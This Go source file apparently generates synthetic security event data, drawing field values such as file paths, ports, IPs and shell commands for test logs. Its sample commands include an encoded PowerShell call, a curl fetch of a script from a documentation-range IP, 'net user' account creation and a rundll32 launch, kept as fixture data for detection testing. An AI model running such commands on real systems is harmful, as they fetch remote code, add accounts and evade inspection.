package corpus

import (
	"strconv"
	"strings"
)

var (
	paths = []string{
		`C:\Windows\System32\cmd.exe`, `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`,
		`C:\Windows\Temp\setup.exe`, `C:\new\tools\scan.exe`, `C:\Program Files\Example\agent.exe`,
		"/usr/bin/curl", "/bin/sh", "/opt/example/bin/backup", `C:\Users\eve\Downloads\invoice.exe`,
	}
	commands = []string{
		"powershell.exe -enc SQBFAFgA", "cmd.exe /c whoami", "whoami /all", "curl -s http://192.0.2.7/a.sh",
		"line one\nline two \\ tab\there", "net user temp-17 /add", "rundll32.exe x.dll,Start",
		"/opt/example/bin/backup --all", `reg add HKLM\Software\Example /v a /d "b c"`,
	}
	words    = []string{"A", "AAAA", "GET", "POST", "TLS", "CREATE", "DELETE", "us-east-1", "service", "Example"}
	outcomes = []string{"success", "failure"}
	urlPaths = []string{"/", "/login", "/a/logo.png", "/api/v1/users", "/update.js", "/wp-admin", "/style.css"}
	ports    = []int64{22, 53, 80, 443, 445, 3389, 4444, 8443}
	statuses = []int64{200, 200, 204, 301, 403, 404, 500, 503}
)

// drawn returns a field whose value is one of the values.
func drawn[T any](name, logical, kind string, purpose uint64, values []T) EventField {
	return EventField{name, logical, kind, func(e *Event) any { return pick(e.ref, purpose, values) }}
}

// newEventField returns a field with values of a kind.
func newEventField(name, kind string, purpose uint64) EventField {
	text := func(logical string, value func(r ref) string) EventField {
		return EventField{name, logical, "String", func(e *Event) any { return value(e.ref) }}
	}
	switch kind {
	case "user":
		return drawn(name, "user", "String", purpose, userNames)
	case "domain":
		return drawn(name, "domain", "String", purpose, domains)
	case "path":
		return drawn(name, "path", "String", purpose, paths)
	case "command":
		return drawn(name, "command", "String", purpose, commands)
	case "outcome":
		return drawn(name, "", "String", purpose, outcomes)
	case "urlpath":
		return drawn(name, "", "String", purpose, urlPaths)
	case "port":
		return drawn(name, "port", "Number", purpose, ports)
	case "status":
		return drawn(name, "", "Number", purpose, statuses)
	case "title":
		return text("", func(r ref) string { return signatures[r.below(purpose, len(signatures))].title })
	case "hash":
		return text("hash", func(r ref) string { return r.hex(purpose, 64) })
	case "ip":
		if strings.HasPrefix(name, "source") || strings.HasPrefix(name, "assigned") {
			return text("ip", ref.sourceIP)
		}
		return text("ip", ref.destinationIP)
	case "mac":
		return text("mac", func(r ref) string { return mac(r.hex(purpose, 6)) })
	case "bool":
		return EventField{name, "", "Bool", func(e *Event) any { return e.oneIn(purpose, 3) }}
	case "number":
		return EventField{name, "", "Number", func(e *Event) any { return int64(e.below(purpose, 10_000)) }}
	case "list":
		return EventField{name, "", "StringList", func(e *Event) any { return stringList(e.ref, purpose) }}
	default:
		return drawn(name, "", "String", purpose, words)
	}
}

// mac returns an address of the range for documentation (RFC 7042).
func mac(digits string) string {
	return "00:00:5e:" + digits[0:2] + ":" + digits[2:4] + ":" + digits[4:6]
}

// stringList returns zero to three different texts.
func stringList(r ref, purpose uint64) []string {
	list := make([]string, r.below(purpose, 4))
	for i := range list {
		list[i] = "item-" + strconv.Itoa(r.below(purpose+1<<16, 5)+i*5)
	}
	return list
}
